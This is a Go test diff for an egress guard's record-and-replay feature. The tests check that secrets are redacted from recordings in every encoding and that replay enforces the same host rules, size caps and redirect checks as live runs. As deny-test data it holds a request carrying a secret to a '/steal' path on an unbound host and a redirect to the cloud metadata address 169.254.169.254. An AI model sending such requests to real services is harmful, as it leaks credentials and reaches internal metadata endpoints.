@@ -2,10 +2,14 @@ package localrun
 
 import (
 	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
 	"errors"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
@@ -15,80 +19,169 @@ import (
 	"github.com/forgehq/forge/internal/manifest"
 )
 
+// TestRecordReplay records exchanges through the guard and replays them
+// with no network. The secret, which has characters URL escaping changes,
+// is sent as written in a header, URL-escaped in a query and in a JSON
+// body; it is in the recording in none of its encodings.
 func TestRecordReplay(t *testing.T) {
 	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/plain")
-		_, _ = io.WriteString(w, "hello from "+r.URL.Path+" with "+r.URL.Query().Get("key"))
+		body, _ := io.ReadAll(r.Body)
+		_, _ = io.WriteString(w, "hello from "+r.URL.Path+" with "+r.URL.Query().Get("key")+" "+string(body))
 	}))
 	defer srv.Close()
 	rule, err := manifest.ParseEgress(srv.URL + "/api/")
 	if err != nil {
 		t.Fatal(err)
 	}
-	const secret = "sk-live-12345"
-	host, err := manifest.ParseHost(strings.TrimPrefix(srv.URL, "http://")[:len("127.0.0.1")])
+	const secret = "sk/live+12=345"
+	host, err := manifest.ParseHost("127.0.0.1")
 	if err != nil {
 		t.Fatal(err)
 	}
-	guard, err := egress.NewGuard(egress.GuardConfig{
-		Rules: []manifest.Egress{rule}, AllowLoopback: true,
-		Secrets: []egress.SecretBinding{{Name: "KEY", Value: secret, Hosts: []manifest.Host{host}}},
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	redact := strings.NewReplacer(secret, "[secret KEY]")
+	bindings := []egress.SecretBinding{{Name: "KEY", Value: secret, Hosts: []manifest.Host{host}}}
+	redact := egress.NewRedactor(bindings)
 	file := filepath.Join(t.TempDir(), "rec.json")
-	rec := NewRecorder(file, guard, redact)
-
-	get := func(c interface {
-		Do(*http.Request) (*http.Response, error)
-	}, url string,
-	) (string, error) {
-		req, _ := http.NewRequestWithContext(context.Background(), http.MethodGet, url, nil)
-		req.Header.Set("Authorization", "Bearer "+secret)
-		resp, err := c.Do(req)
-		if err != nil {
-			return "", err
-		}
-		defer resp.Body.Close()
-		b, err := io.ReadAll(resp.Body)
-		return string(b), err
-	}
-	live, err := get(rec, srv.URL+"/api/items?key="+secret)
+	rec := NewRecorder(file, redact, 1<<20)
+	live, err := egress.NewGuard(egress.GuardConfig{Rules: []manifest.Egress{rule}, AllowLoopback: true, Secrets: bindings, WrapTransport: rec.Wrap})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if live != "hello from /api/items with "+secret {
-		t.Fatalf("live body %q", live)
+	target := srv.URL + "/api/items?key=" + url.QueryEscape(secret)
+	body := `{"token":"` + secret + `"}`
+	got, err := send(live, target, body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != "hello from /api/items with "+secret+" "+body {
+		t.Fatalf("live body %q", got)
 	}
 	if err := rec.Save(); err != nil {
 		t.Fatal(err)
 	}
 	data, _ := os.ReadFile(file)
-	if strings.Contains(string(data), secret) || strings.Contains(string(data), "Bearer") {
-		t.Fatalf("the recording holds the secret or request headers:\n%s", data)
+	for _, form := range secretForms(secret) {
+		if strings.Contains(string(data), form) {
+			t.Errorf("the recording holds the secret as %q:\n%s", form, data)
+		}
+	}
+	if strings.Contains(string(data), "Bearer") {
+		t.Errorf("the recording holds request headers:\n%s", data)
 	}
 
-	rp, err := LoadReplay(file, guard, redact)
+	rp, err := LoadReplay(file, redact)
+	if err != nil {
+		t.Fatal(err)
+	}
+	replay, err := egress.NewGuard(egress.GuardConfig{Rules: []manifest.Egress{rule}, AllowLoopback: true, Secrets: bindings, Transport: rp})
 	if err != nil {
 		t.Fatal(err)
 	}
 	srv.Close() // replay needs no network
-	replayed, err := get(rp, srv.URL+"/api/items?key="+secret)
+	replayed, err := send(replay, target, body)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if replayed != "hello from /api/items with [secret KEY]" {
-		t.Fatalf("replayed body %q", replayed)
+	if want := "hello from /api/items with [secret KEY] " + `{"token":"[secret KEY]"}`; replayed != want {
+		t.Fatalf("replayed body %q, want %q", replayed, want)
 	}
 	// Each exchange answers once; anything else is not recorded.
-	if _, err := get(rp, srv.URL+"/api/items?key="+secret); !errors.Is(err, ErrNotRecorded) {
+	if _, err := send(replay, target, body); !errors.Is(err, ErrNotRecorded) {
 		t.Fatalf("second replay: %v", err)
+	} else if strings.Contains(err.Error(), "key=") {
+		t.Errorf("the error shows the query: %v", err)
 	}
 	// The manifest's rules still apply with no network.
-	if _, err := get(rp, "http://169.254.169.254/latest/"); !errors.Is(err, egress.ErrDenied) {
+	if _, err := send(replay, "http://169.254.169.254/latest/", ""); !errors.Is(err, egress.ErrDenied) {
 		t.Fatalf("undeclared host on replay: %v", err)
+	}
+}
+
+// TestReplayChecksLikeLive: under --replay the guard's checks beyond the
+// URL rules apply as in a live run: a secret sent to a host it is not bound
+// to is refused, and so is a recorded redirect to an undeclared address,
+// and a recorded response over the size cap.
+func TestReplayChecksLikeLive(t *testing.T) {
+	const secret = "sk/live+12=345"
+	api, _ := manifest.ParseHost("api.example.com")
+	bindings := []egress.SecretBinding{{Name: "KEY", Value: secret, Hosts: []manifest.Host{api}}}
+	var rules []manifest.Egress
+	for _, r := range []string{"https://api.example.com/", "https://other.example.com/"} {
+		e, err := manifest.ParseEgress(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rules = append(rules, e)
+	}
+	file := filepath.Join(t.TempDir(), "rec.json")
+	recording := `{"version": 1, "exchanges": [
+		{"method": "GET", "url": "https://other.example.com/steal?k=[secret KEY]", "status": 200, "body": "b2s="},
+		{"method": "GET", "url": "https://api.example.com/hop", "status": 302, "header": {"Location": ["http://169.254.169.254/latest/"]}, "body": ""},
+		{"method": "GET", "url": "https://api.example.com/big", "status": 200, "body": "` + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("y", 2048))) + `"}
+	]}`
+	if err := os.WriteFile(file, []byte(recording), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	rp, err := LoadReplay(file, egress.NewRedactor(bindings))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, cfg := range map[string]egress.GuardConfig{
+		"live":   {Rules: rules, Secrets: bindings, MaxResponseBytes: 1024, Transport: refuseTransport{t}},
+		"replay": {Rules: rules, Secrets: bindings, MaxResponseBytes: 1024, Transport: rp},
+	} {
+		g, err := egress.NewGuard(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := send(g, "https://other.example.com/steal?k="+url.QueryEscape(secret), ""); !errors.Is(err, egress.ErrDenied) {
+			t.Errorf("%s: secret to an unbound host: %v, want denied", name, err)
+		}
+		if name == "live" {
+			continue
+		}
+		if _, err := send(g, "https://api.example.com/hop", ""); !errors.Is(err, egress.ErrDenied) {
+			t.Errorf("%s: redirect to the metadata address: %v, want denied", name, err)
+		}
+		if _, err := send(g, "https://api.example.com/big", ""); !errors.Is(err, egress.ErrResponseTooLarge) {
+			t.Errorf("%s: response over the cap: %v, want too large", name, err)
+		}
+	}
+}
+
+// refuseTransport fails the test if the guard sends anything.
+type refuseTransport struct{ t *testing.T }
+
+func (r refuseTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	r.t.Errorf("the guard sent %s", req.URL)
+	return nil, errors.New("refused")
+}
+
+// send sends a request (a POST with body, if any) with the secret-free
+// Authorization header "Bearer x" and returns the response body.
+func send(c *egress.Guard, target, body string) (string, error) {
+	method, rd := http.MethodGet, io.Reader(nil)
+	if body != "" {
+		method, rd = http.MethodPost, strings.NewReader(body)
+	}
+	req, _ := http.NewRequestWithContext(context.Background(), method, target, rd)
+	req.Header.Set("Authorization", "Bearer x")
+	resp, err := c.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	return string(b), err
+}
+
+// secretForms are the encodings of v that must appear nowhere.
+func secretForms(v string) []string {
+	j, _ := json.Marshal(v)
+	return []string{
+		v, url.QueryEscape(v), url.PathEscape(v), strings.ToLower(url.QueryEscape(v)),
+		string(j[1 : len(j)-1]), hex.EncodeToString([]byte(v)),
+		base64.StdEncoding.EncodeToString([]byte(v)), base64.RawURLEncoding.EncodeToString([]byte(v)),
 	}
 }
 
@@ -103,11 +196,11 @@ func TestLoadReplayRejectsBadFiles(t *testing.T) {
 		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := LoadReplay(p, nil, strings.NewReplacer()); err == nil {
+		if _, err := LoadReplay(p, nil); err == nil {
 			t.Errorf("%s accepted", name)
 		}
 	}
-	if _, err := LoadReplay(filepath.Join(dir, "missing.json"), nil, strings.NewReplacer()); err == nil {
+	if _, err := LoadReplay(filepath.Join(dir, "missing.json"), nil); err == nil {
 		t.Error("missing file accepted")
 	}
 }
